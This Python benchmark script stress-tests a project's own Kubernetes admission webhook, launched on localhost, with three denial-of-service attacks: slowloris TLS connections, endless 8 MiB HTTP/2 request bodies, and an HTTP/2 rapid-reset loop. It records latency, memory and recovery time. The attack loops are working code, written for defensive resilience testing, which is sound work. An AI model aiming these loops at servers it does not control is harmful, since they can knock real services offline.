"""``kai webhook`` under attack, called by a real kube-apiserver: the acceptance figures of
docs/security.md ("The admission webhook under attack").

``kai webhook`` runs as its own process, registered with the API server (``--self-register``,
a url clientConfig). Each attack runs in turn for ``--seconds``; meanwhile a valid admission
goes through the real API server every 0.5 s (a pod create with ``dryRun=All``: both pod
webhooks; and a Queue create with ``dryRun=All``: the policy webhook, which reads the cluster
live). Printed per attack: the admissions' worst latency and failures during the attack, the
webhook's peak RSS, and how long after the attack a valid admission is answered again.

- ``slowloris``: 100 TLS connections that send a request line, then one byte every 5 s (a
  closed one is opened again);
- ``bodies``: 3 HTTP/2 connections of 100 streams each sending 8 MiB bodies that never end
  (a reset stream is opened again);
- ``rapid-reset``: HEADERS + DATA + RST_STREAM in a loop on the policy webhook's path (a
  closed connection is opened again).

    .venv/bin/python bench/bench_webhook_abuse.py                  # starts a real control plane
    .venv/bin/python bench/bench_webhook_abuse.py --kubeconfig FILE --seconds 10
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import uuid
from abc import ABC, abstractmethod
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "controllers"))

NAMESPACE = "team-nlp"
MIB = 1024 * 1024


def _rss(pid: int) -> int:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Probe:
    """Valid admissions through the real API server, timed."""

    def __init__(self, kube: Any) -> None:
        self.kube = kube

    def once(self) -> float | None:
        """Seconds for a pod and a Queue (dry run) to be admitted; None when refused."""
        from kai.kube.resources import PODS, QUEUES

        name = f"probe-{uuid.uuid4().hex[:8]}"
        pod = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "namespace": NAMESPACE},
            "spec": {
                "schedulerName": "kai-scheduler",
                "containers": [{"name": "main", "image": "busybox"}],
            },
        }
        queue = {
            "apiVersion": "scheduling.run.ai/v2",
            "kind": "Queue",
            "metadata": {"name": name},
            "spec": {"resources": {"gpu": {"quota": 1}, "cpu": {}, "memory": {}}},
        }
        started = time.monotonic()
        try:
            self.kube.request("POST", PODS.path(NAMESPACE), params={"dryRun": "All"}, body=pod)
            self.kube.request("POST", QUEUES.path(None), params={"dryRun": "All"}, body=queue)
        except Exception as exc:
            print(f"    admission failed: {str(exc)[:200]}", flush=True)
            return None
        return time.monotonic() - started


class Attack(ABC):
    name = ""

    def __init__(self, port: int, ca: ssl.SSLContext) -> None:
        self.port = port
        self.ca = ca
        self.stop = threading.Event()
        self.threads: list[threading.Thread] = []
        self.count = 0

    def tls(self, alpn: str) -> ssl.SSLSocket:
        raw = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        self.ca.set_alpn_protocols([alpn])
        return self.ca.wrap_socket(raw, server_hostname="127.0.0.1")

    def start(self) -> None:
        for target in self.workers():
            thread = threading.Thread(target=self._guard, args=(target,), daemon=True)
            thread.start()
            self.threads.append(thread)

    def _guard(self, target: Callable[[], None]) -> None:
        while not self.stop.is_set():
            with contextlib.suppress(OSError, ssl.SSLError, ValueError):
                target()

    @abstractmethod
    def workers(self) -> list[Callable[[], None]]:
        """The attack's loops, one thread each (restarted when one fails)."""

    def end(self) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(timeout=15)


class Slowloris(Attack):
    name = "slowloris: 100 TLS connections, one byte every 5 s"

    def workers(self) -> list[Callable[[], None]]:
        return [self.connection] * 100

    def connection(self) -> None:
        conn = self.tls("http/1.1")
        self.count += 1
        try:
            conn.sendall(b"POST /validate/pods HTTP/1.1\r\nHost: x\r\n")
            while not self.stop.wait(5):
                conn.sendall(b"X")
                conn.settimeout(0.01)
                with contextlib.suppress(TimeoutError):
                    if not conn.recv(65536):
                        return
        finally:
            conn.close()


class Bodies(Attack):
    name = "bodies: 3 HTTP/2 connections x 100 streams of 8 MiB that never end"

    def workers(self) -> list[Callable[[], None]]:
        return [self.connection] * 3

    def connection(self) -> None:
        from h2.config import H2Configuration
        from h2.connection import H2Connection
        from h2.events import StreamReset
        from h2.exceptions import FlowControlError, ProtocolError, StreamClosedError

        conn = self.tls("h2")
        self.count += 1
        h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        h2.initiate_connection()
        conn.sendall(h2.data_to_send())
        sent: dict[int, int] = {}
        chunk = b"x" * 16384
        try:
            while not self.stop.is_set():
                while len(sent) < 100:
                    sid = h2.get_next_available_stream_id()
                    h2.send_headers(
                        sid,
                        [
                            (b":method", b"POST"),
                            (b":path", b"/validate/policies"),
                            (b":scheme", b"https"),
                            (b":authority", b"127.0.0.1"),
                        ],
                    )
                    sent[sid] = 0
                    self.count += 1
                for sid in list(sent):
                    with contextlib.suppress(StreamClosedError, FlowControlError, ProtocolError):
                        while sent[sid] < 8 * MIB - len(chunk) and h2.local_flow_control_window(
                            sid
                        ) >= len(chunk):
                            h2.send_data(sid, chunk)
                            sent[sid] += len(chunk)
                conn.sendall(h2.data_to_send())
                conn.settimeout(0.05)
                try:
                    data = conn.recv(65536)
                except TimeoutError:
                    continue
                if not data:
                    return
                for event in h2.receive_data(data):
                    if isinstance(event, StreamReset):
                        sent.pop(event.stream_id, None)
                conn.sendall(h2.data_to_send())
        finally:
            conn.close()


class RapidReset(Attack):
    name = "rapid reset: HEADERS + DATA + RST_STREAM in a loop"

    def workers(self) -> list[Callable[[], None]]:
        return [self.connection]

    def connection(self) -> None:
        from h2.config import H2Configuration
        from h2.connection import H2Connection
        from h2.exceptions import ProtocolError

        conn = self.tls("h2")
        h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        h2.initiate_connection()
        conn.sendall(h2.data_to_send())
        body = (
            b'{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":'
            b'{"uid":"x","kind":{"group":"scheduling.run.ai","version":"v2","kind":"Queue"},'
            b'"operation":"CREATE","name":"q","object":{"apiVersion":"scheduling.run.ai/v2",'
            b'"kind":"Queue","metadata":{"name":"q"},"spec":{}}}}'
        )
        conn.settimeout(0)
        try:
            while not self.stop.is_set():
                try:
                    sid = h2.get_next_available_stream_id()
                    h2.send_headers(
                        sid,
                        [
                            (b":method", b"POST"),
                            (b":path", b"/validate/policies"),
                            (b":scheme", b"https"),
                            (b":authority", b"127.0.0.1"),
                        ],
                    )
                    h2.send_data(sid, body, end_stream=True)
                    h2.reset_stream(sid)
                except ProtocolError:
                    return
                conn.settimeout(10)
                conn.sendall(h2.data_to_send())
                self.count += 1
                conn.settimeout(0)
                with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
                    data = conn.recv(65536)
                    if not data:
                        return
                    with contextlib.suppress(ProtocolError):
                        h2.receive_data(data)
                    if h2.state_machine.state.name == "CLOSED":
                        return
        finally:
            conn.close()


def _measure(attack: Attack, probe: Probe, pid: int, seconds: float) -> dict[str, Any]:
    base_rss = _rss(pid)
    latencies: list[float | None] = []
    peak = base_rss
    attack.start()
    end = time.monotonic() + seconds
    next_probe = time.monotonic() + 1.0
    while time.monotonic() < end:
        peak = max(peak, _rss(pid))
        if time.monotonic() >= next_probe:
            latencies.append(probe.once())
            next_probe = time.monotonic() + 0.5
        time.sleep(0.1)
    attack.end()
    stopped = time.monotonic()
    recovery = None
    while time.monotonic() - stopped < 30:
        latency = probe.once()
        if latency is not None and latency < 2.0:
            recovery = time.monotonic() - stopped
            break
    answered = [x for x in latencies if x is not None]
    return {
        "attack": attack.name,
        "opened": attack.count,
        "probes": len(latencies),
        "failed": len(latencies) - len(answered),
        "worst": max(answered) if answered else None,
        "rss_before": base_rss / MIB,
        "rss_peak": max(peak, _rss(pid)) / MIB,
        "recovery": recovery,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--kubeconfig", help="a running control plane (default: start one)")
    parser.add_argument("--seconds", type=float, default=30.0, help="each attack (default 30)")
    parser.add_argument(
        "--attacks", default="slowloris,bodies,rapid-reset", help="which, in this order"
    )
    parser.add_argument("--backend", default="python", choices=("python", "granian"))
    args = parser.parse_args()

    from kai.kube.client import ApiError, Kube
    from kai.kube.resources import NAMESPACES

    state = Path(tempfile.mkdtemp(prefix="kai-abuse-"))
    scripts = Path(os.environ.get("KAI_REAL_K8S") or ROOT.parent / "shared" / "real-k8s")
    kubeconfig = args.kubeconfig
    if not kubeconfig:
        subprocess.run(["bash", str(scripts / "up.sh"), str(state / "k8s")], check=True)
        kubeconfig = str(state / "k8s" / "kubeconfig")
    webhook = None
    try:
        kube = Kube.from_kubeconfig(kubeconfig)
        kubectl = [os.environ.get("KAI_KUBECTL") or _kubectl(), "--kubeconfig", kubeconfig]
        for crd in sorted((ROOT / "manifests" / "crds").glob("*_*.yaml")):
            subprocess.run([*kubectl, "apply", "-f", str(crd)], check=True, capture_output=True)
        subprocess.run(
            [*kubectl, "wait", "--for=condition=Established", "crd", "--all", "--timeout=60s"],
            check=True,
            capture_output=True,
        )
        for ns in ("kai-scheduler", NAMESPACE):
            with contextlib.suppress(ApiError):
                kube.create(NAMESPACES, {"metadata": {"name": ns}})
        port, metrics = _free_port(), _free_port()
        webhook = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "kai.cli",
                "webhook",
                "--kubeconfig",
                kubeconfig,
                "--bind-address=127.0.0.1",
                f"--port={port}",
                f"--metrics-port={metrics}",
                f"--self-register=https://127.0.0.1:{port}",
                f"--cert-secret=kai-abuse-{uuid.uuid4().hex[:6]}",
                f"--server-backend={args.backend}",
                "--log-level=WARNING",
            ],
            env={**os.environ, "PYTHONPATH": str(ROOT / "controllers")},
        )
        deadline = time.monotonic() + 120
        while True:
            with contextlib.suppress(OSError):
                url = f"http://127.0.0.1:{metrics}/readyz"
                with urllib.request.urlopen(url, timeout=2) as answer:
                    if answer.status == 200:
                        break
            if time.monotonic() > deadline or webhook.poll() is not None:
                raise SystemExit("kai webhook did not become ready")
            time.sleep(0.5)
        ca = ssl.create_default_context()
        ca.check_hostname = False
        ca.verify_mode = ssl.CERT_NONE
        probe = Probe(kube)
        print(f"a valid admission (pod + Queue, dry run), idle: {probe.once():.3f}s", flush=True)
        kinds = {"slowloris": Slowloris, "bodies": Bodies, "rapid-reset": RapidReset}
        for name in args.attacks.split(","):
            result = _measure(kinds[name](port, ca), probe, webhook.pid, args.seconds)
            worst = f"{result['worst']:.2f}s" if result["worst"] is not None else "-"
            recovery = f"{result['recovery']:.2f}s" if result["recovery"] is not None else "none"
            print(
                f"{result['attack']} ({args.seconds:g}s, {result['opened']} opened):\n"
                f"  admissions {result['probes']}, failed {result['failed']}, worst {worst}; "
                f"webhook RSS {result['rss_before']:.0f} -> peak {result['rss_peak']:.0f} MB; "
                f"answered within 2 s again after {recovery}",
                flush=True,
            )
        return 0
    finally:
        if webhook is not None:
            webhook.terminate()
            with contextlib.suppress(subprocess.TimeoutExpired):
                webhook.wait(20)
        if not args.kubeconfig:
            subprocess.run(["bash", str(scripts / "down.sh"), str(state / "k8s"), "--wipe"])


def _kubectl() -> str:
    sys.path.insert(0, str(ROOT / "tests"))
    from helpers.tools import find_kubectl

    path = find_kubectl()
    if path is None:
        raise SystemExit("no kubectl")
    return path


if __name__ == "__main__":
    raise SystemExit(main())
